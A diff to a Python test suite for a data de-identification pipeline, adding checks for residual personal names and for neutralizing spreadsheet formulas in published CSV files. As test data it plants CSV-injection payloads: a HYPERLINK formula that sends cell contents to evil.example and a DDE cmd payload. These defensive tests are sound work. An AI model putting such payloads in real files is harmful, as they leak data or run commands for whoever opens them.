@@ -58,6 +58,37 @@ def test_residual_identifier_stops_the_product(landed):
     assert ref.blocked.startswith("residual scan") and "raw_id" in ref.blocked
 
 
+def _with_column(res, product_name, column):
+    cat = res.catalog
+    product = cat.products[product_name]
+    changed = dataclasses.replace(product, columns={**product.columns, column.name: column})
+    return res.with_catalog(dataclasses.replace(cat, products={**cat.products,
+                                                               product_name: changed}))
+
+
+def test_residual_scan_reads_names_in_every_personal_column(landed):
+    """Names of legal representatives kept as they are (the check is bypassed here) stop the
+    product: the residual scan reads every column whose element has a pii_entity."""
+    raw = _with_column(landed, "enterprise_profile",
+                       ProductColumn("legal_rep", "legal_rep_name", "keep"))
+    ref = _run(raw, "enterprise_profile")
+    assert ref.blocked and ref.blocked.startswith("residual scan"), ref.blocked
+    assert "legal_rep: {'PERSON'" in ref.blocked and ref.version is None
+
+
+def test_a_name_kept_with_a_reason_is_declared_not_residual(landed):
+    import json
+
+    kept = _with_column(landed, "enterprise_profile", ProductColumn(
+        "legal_rep", "legal_rep_name", "keep", keep_reason="公示系统已公开法定代表人"))
+    ref = _run(kept, "enterprise_profile")
+    assert ref.blocked is None and ref.version >= 1
+    report = json.loads((_version_folder(kept, "enterprise_profile", ref.version) /
+                         "deid_report.json").read_text(encoding="utf-8"))
+    assert report["kept_with_reason"]["legal_rep"]["entities"]["PERSON"] > 0
+    assert "legal_rep" not in report["residual"]
+
+
 def _with_zone(res, name, **changes):
     cat = res.catalog
     zone = dataclasses.replace(cat.zones[name], **changes)
@@ -144,3 +175,49 @@ def test_published_report_does_not_reveal_suppressed_rows(landed):
     assert all(set(c) == {"rows"} for c in published["risk"]["smallest_classes"])
     work = json.loads(Path(ref.report).read_text(encoding="utf-8"))
     assert "age_band" in work["risk"]["smallest_classes"][0]  # the steward still sees them
+
+
+def test_published_csv_neutralizes_formulas_and_parquet_stays_exact(landed):
+    """A cell such as =HYPERLINK(…) from the source is text in data.csv (OWASP CSV
+    injection), and the exact value in data.parquet."""
+    import pyarrow.csv as pv
+    import pyarrow.parquet as pq
+
+    partition = "2026-10-02"
+    path = write_sample(landed.storage, "market_enterprise", partition, 400, seed=5, dirty=False)
+    table = pv.read_csv(path, convert_options=pv.ConvertOptions(
+        column_types={n: "string" for n in pv.read_csv(path).column_names}))
+    names = table.column("enterprise_name").to_pylist()
+    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(1+1)"]
+    names[:4] = formulas
+    table = table.set_column(table.column_names.index("enterprise_name"), "enterprise_name",
+                             __import__("pyarrow").array(names))
+    pv.write_csv(table, path)
+    assert batches.validate_and_land(landed, _collect(landed, "market_enterprise",
+                                                      partition)).status == "landed"
+    ref = stages.build(landed, "enterprise_profile", partition)
+    ref = stages.publish(landed, stages.check_risk(landed, stages.deidentify(landed, ref)))
+    assert ref.blocked is None, ref.blocked
+    folder = _version_folder(landed, "enterprise_profile", ref.version)
+    exact = set(pq.read_table(folder / "data.parquet").column("enterprise_name").to_pylist())
+    published = pv.read_csv(folder / "data.csv", convert_options=pv.ConvertOptions(
+        column_types={"enterprise_name": "string"})).column("enterprise_name").to_pylist()
+    kept = [f for f in formulas if f in exact]  # the rows k-anonymity or exclusions kept
+    assert kept, "no planted formula reached the product"
+    for formula in kept:
+        assert "'" + formula in published and formula not in published
+    assert not any(v and v[0] in "=+-@" for v in published)
+
+
+def test_formula_cells_are_neutralized_in_every_text_type():
+    import pyarrow as pa
+
+    from yishu.pipeline.spreadsheet import neutralize
+
+    table = pa.table({"a": pa.array(["=1+1", "a=b", None, "\tx"], pa.large_string()),
+                      "b": pa.chunked_array([["-cmd", "@x"], ["ok", "+1"]]),
+                      "n": pa.array([-1, 2, 3, 4])})
+    assert neutralize(table).to_pydict() == {"a": ["'=1+1", "a=b", None, "'\tx"],
+                                             "b": ["'-cmd", "'@x", "ok", "'+1"],
+                                             "n": [-1, 2, 3, 4]}
